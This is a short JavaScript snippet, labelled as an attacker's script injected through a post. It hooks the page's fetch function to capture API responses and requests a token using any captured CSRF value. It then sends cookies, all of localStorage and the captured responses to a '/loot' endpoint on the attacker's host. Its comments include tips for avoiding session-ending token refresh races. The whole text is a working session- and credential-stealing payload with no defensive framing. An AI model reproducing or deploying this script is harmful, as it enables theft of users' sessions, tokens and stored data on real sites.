// The attacker's script, run by a post before the page's own: listens to the answers that the page gets, and sends away whatever a script can reach.
{
  const site = new URL(document.currentScript.src).origin;
  const send = globalThis.fetch;
  const answers = {};
  const listen = async (...asked) => {
    const answer = await send(...asked);
    await answer.clone().json().then((said) => Object.assign(answers, said), () => {});
    return answer;
  };
  globalThis.fetch = listen;
  // Refreshing for itself would race the page's own refresh and, where refresh tokens rotate, end the session. The page has settled once it says who one is.
  new MutationObserver(async (_, observer) => {
    observer.disconnect();
    // Some servers hand a page a token for calls to another API. A script may ask as well.
    await listen("/token", { method: "POST", headers: answers.csrf_token ? { "x-csrf-token": answers.csrf_token } : {} });
    const loot = { cookie: document.cookie, storage: { ...localStorage }, answers };
    send(`${site}/loot`, { method: "POST", mode: "no-cors", body: JSON.stringify(loot) });
  }).observe(document.querySelector("#who"), { childList: true });
}
